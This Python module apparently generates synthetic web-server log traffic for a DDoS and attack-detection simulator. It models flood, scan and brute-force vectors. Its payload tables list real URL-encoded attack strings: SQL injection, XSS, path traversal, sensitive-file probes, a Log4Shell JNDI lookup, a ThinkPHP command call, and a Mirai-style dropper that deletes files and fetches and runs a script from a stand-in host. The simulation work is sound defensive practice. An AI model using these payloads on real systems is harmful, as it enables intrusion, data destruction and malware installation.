"""What each attack vector looks like on the wire: method, target, the origin's answer, and the referer.

Breach payloads are those public scanners and botnets send (Nikto, sqlmap, WPScan, Mirai-style droppers, the
ThinkPHP and Log4Shell probes), URL-encoded as they arrive in access logs.
"""

from __future__ import annotations

from typing import Final

import numpy as np
import polars as pl

from floodwall.model import Vector
from floodwall.simulate.sites import SiteContent

__all__ = ["vector_requests"]

_SENSITIVE: Final = (
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-config.php.bak",
    "/wp-config.php~",
    "/backup.zip",
    "/db.sql",
    "/dump.sql.gz",
    "/.aws/credentials",
    "/.DS_Store",
    "/config.json",
    "/phpinfo.php",
    "/info.php",
    "/server-status",
    "/phpmyadmin/index.php",
    "/pma/",
    "/adminer.php",
    "/admin/",
    "/administrator/",
    "/wp-admin/install.php",
    "/wp-content/debug.log",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/.vscode/sftp.json",
    "/actuator/env",
    "/solr/admin/info/system",
    "/owa/auth/logon.aspx",
    "/boaform/admin/formLogin",
    "/cgi-bin/luci",
    "/wp-json/wp/v2/users",
    "/?author=1",
)
_SQLI: Final = (
    "/?p=1%27%20AND%201%3D1--%20-",
    "/?s=1%27%29%20UNION%20SELECT%20NULL%2CNULL%2CNULL--%20-",
    "/?id=1%20AND%20SLEEP%285%29",
    "/?cat=1%27%20OR%20%271%27%3D%271",
    "/index.php?option=com_content&id=-1%20UNION%20ALL%20SELECT%20user%28%29",
    "/search?q=%27%20OR%201%3D1%3B--",
    "/?page_id=1%22%20AND%20EXTRACTVALUE%281%2CCONCAT%280x7e%2Cversion%28%29%29%29--",
)
_XSS: Final = (
    "/?s=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
    "/search?q=%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E",
    "/?q=%3Cimg%20src%3Dx%20onerror%3Dprompt%281%29%3E",
    "/?redirect_to=javascript%3Aalert%281%29",
    "/?s=%27%3B%3C%2Fscript%3E%3Cscript%3Ealert%28%27xss%27%29%3C%2Fscript%3E",
)
_TRAVERSAL: Final = (
    "/index.php?page=../../../../etc/passwd",
    "/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/wp-content/plugins/wp-file-manager/download.php?file=../../../wp-config.php",
    "/static/..%252f..%252f..%252fetc%252fshadow",
    "/?file=....//....//....//etc/hosts",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
)
_RCE: Final = (
    "/shell?cd+/tmp;rm+-rf+*;wget+http://{ip}/bins.sh;sh+bins.sh",
    # nginx logs a backslash as \x5C (its default log escaping)
    "/index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/?x=%24%7Bjndi%3Aldap%3A%2F%2F{ip}%3A1389%2FExploit%7D",
    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
    "/?cmd=%3Bcat%20%2Fetc%2Fpasswd",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?%3C%3Fphp%20system%28%27id%27%29%3F%3E",
)
_LETTERS = np.frombuffer(b"abcdefghijklmnopqrstuvwxyz0123456789", dtype=np.uint8)


def _const(value: str, n: int) -> pl.Series:
    return pl.Series([value], dtype=pl.String).new_from_index(0, n)


def _pick(table: tuple[str, ...] | list[str], n: int, rng: np.random.Generator) -> pl.Series:
    return pl.Series(list(table), dtype=pl.String).gather(rng.integers(0, len(table), n))


_WORD_TABLE: list[pl.Series] = []


def _random_words(n: int, length: int, rng: np.random.Generator) -> pl.Series:
    """Random lowercase words of `length` (at most 12) letters and digits, gathered from one fixed table."""
    if not _WORD_TABLE:
        table_rng = np.random.default_rng(20_241_105)
        letters = _LETTERS[table_rng.integers(0, len(_LETTERS), (1 << 16, 12))]
        _WORD_TABLE.append(pl.Series(letters.view("S12").ravel()).cast(pl.String))
    words = _WORD_TABLE[0].gather(rng.integers(0, 1 << 16, n))
    return words if length >= 12 else words.str.slice(0, length)


def _numbers(n: int, low: int, high: int, rng: np.random.Generator) -> pl.Series:
    return pl.Series(rng.integers(low, high, n)).cast(pl.String)


def _format(template: str, *columns: pl.Series) -> pl.Series:
    return pl.select(pl.format(template, *[pl.lit(c) for c in columns])).to_series()


def vector_requests(
    vector: Vector, content: SiteContent, n: int, rng: np.random.Generator
) -> tuple[str, pl.Series, np.ndarray, np.ndarray, pl.Series]:
    """`n` requests of one vector: method, target, status, body bytes, referer."""
    urls = content.urls
    home = content.base_url + "/"
    none = _const("-", n)
    ones = np.ones(n, dtype=np.int64)
    match vector:
        case Vector.GET_FLOOD:
            target = _pick(["/", "/", "/", "//", "//", "/index.php"], n, rng)
            referer = pl.select(pl.when(pl.Series(rng.random(n) < 0.5)).then(pl.lit(home)).otherwise(none)).to_series()
            return (
                "GET",
                target,
                np.full(n, 200),
                (content.page_bytes[0] * rng.lognormal(0, 0.03, n)).astype(np.int64),
                referer,
            )
        case Vector.CACHE_BUST:
            pages = np.where(rng.random(n) < 0.6, 0, content.first_article + rng.integers(0, content.n_articles, n))
            target = _format(
                "{}?{}={}", content.pages.gather(pages), _random_words(n, 6, rng), _numbers(n, 10**8, 10**10, rng)
            )
            return "GET", target, np.full(n, 200), content.page_bytes[pages], none
        case Vector.RANDOM_PATH:
            target = _format("/{}", _random_words(n, 10, rng))
            return "GET", target, np.full(n, 404), 11_906 * ones, none
        case Vector.SEARCH_FLOOD:
            words = pl.Series(list(content.words), dtype=pl.String)
            terms = _format(
                "{}+{}+{}",
                words.gather(rng.integers(0, len(words), n)),
                words.gather(rng.integers(0, len(words), n)),
                _numbers(n, 1, 99_999, rng),
            )
            target = _format("{}{}", _const(urls.search, n), terms)
            return "GET", target, np.full(n, 200), rng.integers(24_000, 36_000, n), none
        case Vector.HEAVY_PAGE:
            suffix = "/" if urls.pagination.endswith("/") else ""
            target = _format("{}{}" + suffix, _const(urls.pagination, n), _numbers(n, 300, 9_000, rng))
            status = np.where(rng.random(n) < 0.7, 200, 404)
            return "GET", target, status, np.where(status == 200, rng.integers(38_000, 46_000, n), 11_906), none
        case Vector.POST_FLOOD:
            status = np.where(rng.random(n) < 0.8, 200, 400)
            return "POST", _const(urls.post_target, n), status, np.where(status == 200, 1, 11), none
        case Vector.LOGIN_BRUTEFORCE:
            status = np.where(rng.random(n) < 0.998, 200, 302)
            referer = _const(content.base_url + urls.login, n)
            return (
                "POST",
                _const(urls.login, n),
                status,
                np.where(status == 200, rng.integers(5_900, 6_200, n), 0),
                referer,
            )
        case Vector.XMLRPC_ABUSE:
            return "POST", _const(urls.xmlrpc, n), np.full(n, 200), rng.integers(370, 420, n), none
        case Vector.SCAN:
            status = np.where(rng.random(n) < 0.75, 404, np.where(rng.random(n) < 0.8, 403, 301))
            body = np.where(status == 404, 11_906, np.where(status == 403, 153, 169))
            return "GET", _pick(_SENSITIVE, n, rng), status, body, none
        case Vector.SQLI:
            status = np.where(rng.random(n) < 0.6, 200, np.where(rng.random(n) < 0.7, 403, 500))
            return "GET", _pick(_SQLI, n, rng), status, np.where(status == 200, 30_112, 153), none
        case Vector.XSS:
            status = np.where(rng.random(n) < 0.7, 200, 403)
            return "GET", _pick(_XSS, n, rng), status, np.where(status == 200, 29_871, 153), none
        case Vector.PATH_TRAVERSAL:
            status = np.where(rng.random(n) < 0.6, 404, 400)
            return "GET", _pick(_TRAVERSAL, n, rng), status, np.where(status == 404, 11_906, 157), none
        case Vector.RCE:
            fake_host = f"{int(rng.integers(45, 200))}.{int(rng.integers(1, 250))}.{int(rng.integers(1, 250))}.17"
            table = [t.replace("{ip}", fake_host) for t in _RCE]
            status = np.where(rng.random(n) < 0.5, 404, 400)
            return "GET", _pick(table, n, rng), status, np.where(status == 404, 11_906, 157), none
        case Vector.SLOW_REQUEST:
            return "GET", _const("/", n), np.full(n, 408), np.zeros(n, dtype=np.int64), none
    raise ValueError(f"no request shape for vector {vector!r}")
